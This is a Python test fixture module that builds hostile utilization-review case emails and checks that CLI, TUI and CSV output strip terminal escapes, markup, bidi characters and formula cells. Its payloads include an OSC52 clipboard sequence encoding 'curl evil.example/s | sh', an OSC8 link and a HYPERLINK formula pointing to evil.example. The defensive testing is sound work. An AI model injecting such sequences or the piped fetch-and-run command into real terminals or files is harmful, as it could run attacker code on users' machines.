"""Hostile case emails: every terminal escape family, Rich/Textual markup, bidi and
zero-width characters in every field, the subject, the sender and the case ID.

Shared by the CLI, SMTP, TUI and tmux tests of issue 11; the checks that output is safe
live here too so every test asserts the same thing on bytes.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata

# Escape families, each as a terminal would receive it.
CSI = "\x1b[2J\x1b[H"
OSC_TITLE = "\x1b]0;pwned-title\x07"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # "curl evil.example/s | sh"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
DCS = "\x1bP+q544e\x1b\\"
C1 = "\x9b31m"
BEL_BS_CR = "\x07\x08\rOVERWRITE"
MARKUP = "[/] [@click=app.quit]q[/] [link=https://evil.example]l[/link] [bold]"
BIDI = "\u202eevil\u202c \u200bzw\u200d \u2066iso\u2069"

EVERYTHING = CSI + OSC_TITLE + OSC52 + OSC8 + DCS + C1 + BEL_BS_CR + " " + MARKUP + " " + BIDI

# The case ID: one token (the parser takes the first word), with markup that crashed the
# notifications, an invisible character, a bidi override and a CSI.
CASE_ID = "UM-2026-[/]7\u200b\u202e\x1b[8m"
CLIENT = "=HYPERLINK(\"https://evil.example\",\"Plan\")"  # a formula cell in `uq report --csv`


def _header_value(text: str) -> bytes:
    """Raw 8-bit header bytes: controls kept as they would arrive from a hostile relay."""
    return text.replace("\r", "").replace("\n", "").encode("utf-8")


def case_email(n: int, *, urgent: bool = True) -> bytes:
    """A case email (text/plain, 8bit UTF-8) with hostile text in every labelled field."""
    body = "\n".join(
        [
            f"Case ID: {CASE_ID}{n}",
            "Review Type: Prospective",
            f"Urgency: {'Expedited' if urgent else 'Standard'}",
            f"Client: {CLIENT}",
            f"Member Name: Zed {EVERYTHING} Quux",
            "Member DOB: 01/02/1970",
            f"Member ID: MID{C1}{BIDI}",
            f"Requesting Provider: Dr {EVERYTHING}",
            f"Provider Phone: (555) 010-{n:04d}{CSI}",
            f"Diagnosis: M54.16 {EVERYTHING}",
            f"Requested Service: +CPT 72148 {EVERYTHING}",
            f"Guideline: MCG {EVERYTHING}",
            f"Clinical Summary: {EVERYTHING}",
            f"Nurse Assessment: {EVERYTHING}",
            f"Nurse Recommendation: Approve {EVERYTHING}",
            f"Question for Physician: {EVERYTHING}",
            "",
            # ordinary prose, so the controls stay under the parser's binary-part threshold
            *(["Routine history and examination notes, nothing remarkable in this paragraph."] * 150),
            "",
        ]
    )
    head = (
        b'From: "Nurse ' + _header_value(f"{OSC_TITLE}[/]\u202e") + b'" <nurse@reviews.example-um.com>\r\n'
        b"To: dr@example.org\r\n"
        b"Subject: UM Review Request - Case #" + _header_value(f"{CASE_ID}{n} - {EVERYTHING}") + b"\x9b2J\r\n"
        b"Date: Sun, 29 Nov 2026 08:29:00 -0500\r\n"
        b"Message-ID: <hostile-" + str(n).encode() + b"@reviews.example-um.com>\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return head + body.replace("\n", "\r\n").encode("utf-8")


def quarantined_email() -> bytes:
    """Broken MIME (multipart without a boundary): quarantined, its subject and sender listed."""
    return (
        b"From: " + _header_value(f"{CSI}{OSC52}") + b" <q@broken.example-um.com>\r\n"
        b"To: dr@example.org\r\n"
        b"Subject: " + _header_value(EVERYTHING) + b"\x9b2J\r\n"
        b"Date: Sun, 29 Nov 2026 08:14:00 -0500\r\n"
        b"Message-ID: <hostile-q@broken.example-um.com>\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\n"
        b"--zzz\r\nContent-Type: text/plain\r\n\r\nCase ID: BR-1\r\n--zzz--\r\n"
    )


# ------------------------------------------------------------------ checks on output

_C1_OR_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def assert_terminal_safe(out: bytes, what: str) -> str:
    """Output meant for a terminal: valid UTF-8, no ESC/BEL/C1 byte or character, no
    C0 control but newline, no bidi/zero-width format character acting."""
    assert b"\x1b" not in out, f"{what}: ESC byte"
    assert b"\x07" not in out, f"{what}: BEL byte"
    text = out.decode("utf-8")  # strict: invalid bytes would be a test failure
    bad = _C1_OR_CONTROL.search(text)
    assert bad is None, f"{what}: control character U+{ord(bad.group()):04X}"
    fmt = [c for c in text if unicodedata.category(c) in ("Cf", "Zl", "Zp")]
    assert not fmt, f"{what}: format characters {[hex(ord(c)) for c in fmt]}"
    return text


def assert_no_formula_cells(out: bytes) -> list[list[str]]:
    text = assert_terminal_safe(out.replace(b"\r\n", b"\n"), "report --csv")  # CSV rows end CRLF
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula cell {cell!r}"
    return rows
